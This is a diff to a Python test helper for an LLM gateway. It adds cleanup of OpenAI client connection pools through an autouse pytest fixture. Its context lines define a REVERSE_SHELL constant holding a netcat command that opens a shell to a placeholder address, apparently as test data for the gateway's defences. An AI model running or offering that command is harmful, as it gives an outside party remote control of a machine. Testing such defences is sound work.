@@ -16,10 +16,22 @@ from redline.gateway.loopback import LoopbackServer
 from redline.gateway.scripted_upstream import Script, ScriptedUpstream
 from redline.gateway.state import GatewayState
 
+_OPENAI_CLIENTS: list[openai.OpenAI] = []
 
-def openai_client(url: str) -> openai.OpenAI:
-    """The official OpenAI client pointed at a gateway, without retries."""
-    return openai.OpenAI(base_url=url, api_key="unused", max_retries=0, timeout=30)
+
+def openai_client(url: str, timeout: float = 30) -> openai.OpenAI:
+    """The official OpenAI client pointed at a gateway, without retries; closed after the test."""
+    client = openai.OpenAI(base_url=url, api_key="unused", max_retries=0, timeout=timeout)
+    _OPENAI_CLIENTS.append(client)
+    return client
+
+
+@pytest.fixture(autouse=True)
+def _close_openai_clients() -> Iterator[None]:
+    """Close the test's OpenAI clients (and their connection pools) when it ends."""
+    yield
+    while _OPENAI_CLIENTS:
+        _OPENAI_CLIENTS.pop().close()
 
 
 REVERSE_SHELL = "nc -e /bin/sh 203.0.113.5 4444"
